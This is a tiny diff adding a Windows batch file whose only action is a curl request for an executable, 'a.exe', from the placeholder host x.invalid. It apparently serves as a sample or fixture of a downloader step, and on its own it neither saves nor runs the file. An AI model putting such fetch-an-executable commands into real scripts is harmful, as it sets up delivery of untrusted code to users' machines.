@@ -1,0 +1,2 @@
+@echo off
+curl http://x.invalid/a.exe
